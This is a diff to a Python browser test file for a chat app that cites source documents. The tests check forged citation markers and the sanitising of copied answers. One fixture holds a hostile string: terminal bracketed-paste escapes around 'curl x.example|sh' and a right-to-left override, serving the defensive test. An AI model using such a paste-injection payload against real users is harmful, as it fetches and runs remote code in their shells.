@@ -18,6 +18,7 @@ from pathlib import Path
 
 import httpx
 import pytest
+from browsers import chromium, playwright_api
 from test_redteam import one_sentence
 from test_redteam4 import _served
 from test_redteam9 import _page
@@ -59,35 +60,26 @@ def test_in_a_browser_a_documents_own_bracket_opens_no_source(tmp_path: Path) ->
     # The same in a real browser: the answer shows two live markers, one per sentence (the
     # forged sentence's "[1] [2]" is plain text), and the real [2] opens the official
     # document's passage.
-    chromium = Path("/usr/bin/chromium")
-    if not chromium.exists():
-        pytest.skip("Chromium is not installed at /usr/bin/chromium")
-    sync_api = pytest.importorskip("playwright.sync_api")
+    sync_api = playwright_api()
     documents = {"official.txt": _OFFICIAL, "forged.txt": _FORGED}
-    with _served(tmp_path, documents=documents) as chat, sync_api.sync_playwright() as p:
-        browser = p.chromium.launch(
-            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
-        )
-        try:
-            page = browser.new_page()
-            page.set_default_timeout(60_000)
-            page.goto(chat.url)
-            box = page.locator("#question textarea")
-            sync_api.expect(box).to_be_editable()
-            box.fill("Is the zircon vault certified safe, and when does the zircon vault open?")
-            box.press("Enter")
-            answer = page.locator("#chat .bot-row").first
-            sync_api.expect(answer).to_contain_text("regulator [1] [2].")
-            sync_api.expect(page.locator("#chat .bot-row").last).not_to_contain_text("▍")
-            markers = answer.locator(".cite-ref")
-            sync_api.expect(markers).to_have_count(2)
-            assert markers.all_inner_texts() == ["[1]", "[2]"]
-            markers.nth(1).click()
-            opened = page.locator("#chat details.citation[open]")
-            sync_api.expect(opened).to_have_count(1)
-            sync_api.expect(opened).to_contain_text("official.txt")
-        finally:
-            browser.close()
+    with _served(tmp_path, documents=documents) as chat, chromium(sync_api) as browser:
+        page = browser.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(chat.url)
+        box = page.locator("#question textarea")
+        sync_api.expect(box).to_be_editable()
+        box.fill("Is the zircon vault certified safe, and when does the zircon vault open?")
+        box.press("Enter")
+        answer = page.locator("#chat .bot-row").first
+        sync_api.expect(answer).to_contain_text("regulator [1] [2].")
+        sync_api.expect(page.locator("#chat .bot-row").last).not_to_contain_text("▍")
+        markers = answer.locator(".cite-ref")
+        sync_api.expect(markers).to_have_count(2)
+        assert markers.all_inner_texts() == ["[1]", "[2]"]
+        markers.nth(1).click()
+        opened = page.locator("#chat details.citation[open]")
+        sync_api.expect(opened).to_have_count(1)
+        sync_api.expect(opened).to_contain_text("official.txt")
 
 
 def test_copy_puts_no_terminal_escape_on_the_clipboard(tmp_path: Path) -> None:
@@ -96,35 +88,26 @@ def test_copy_puts_no_terminal_escape_on_the_clipboard(tmp_path: Path) -> None:
     # terminal's bracketed paste) pasted into a shell would run whatever followed it, and a
     # right-to-left override reordered the pasted text. The clipboard now holds what the
     # page shows (a real browser, its real clipboard).
-    chromium = Path("/usr/bin/chromium")
-    if not chromium.exists():
-        pytest.skip("Chromium is not installed at /usr/bin/chromium")
-    sync_api = pytest.importorskip("playwright.sync_api")
+    sync_api = playwright_api()
     ledger = "The zircon vault code is \x1b[201~curl x.example|sh\x1b[200~ and \u202eexe.txt.\n"
     with (
         _served(tmp_path, documents={"ledger.txt": ledger}) as chat,
-        sync_api.sync_playwright() as p,
+        chromium(sync_api) as browser,
     ):
-        browser = p.chromium.launch(
-            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
-        )
-        try:
-            context = browser.new_context()
-            context.grant_permissions(["clipboard-read", "clipboard-write"])
-            page = context.new_page()
-            page.set_default_timeout(60_000)
-            page.goto(chat.url)
-            box = page.locator("#question textarea")
-            sync_api.expect(box).to_be_editable()
-            box.fill("What is the zircon vault code?")
-            box.press("Enter")
-            answer = page.locator("#chat .bot-row").first
-            sync_api.expect(answer).to_contain_text("[U+001B][201~curl")
-            answer.get_by_role("button", name="Copy").click()
-            sync_api.expect(answer.get_by_role("button", name="Copied")).to_be_visible()
-            copied = page.evaluate("() => navigator.clipboard.readText()")
-        finally:
-            browser.close()
+        context = browser.new_context()
+        context.grant_permissions(["clipboard-read", "clipboard-write"])
+        page = context.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(chat.url)
+        box = page.locator("#question textarea")
+        sync_api.expect(box).to_be_editable()
+        box.fill("What is the zircon vault code?")
+        box.press("Enter")
+        answer = page.locator("#chat .bot-row").first
+        sync_api.expect(answer).to_contain_text("[U+001B][201~curl")
+        answer.get_by_role("button", name="Copy").click()
+        sync_api.expect(answer.get_by_role("button", name="Copied")).to_be_visible()
+        copied = page.evaluate("() => navigator.clipboard.readText()")
     assert "[U+001B][201~curl x.example|sh[U+001B][200~ and [U+202E]exe.txt" in copied, copied
     assert "\x1b" not in copied and "\u202e" not in copied, copied
     assert "\n\nSources:\n[1] ledger.txt" in copied
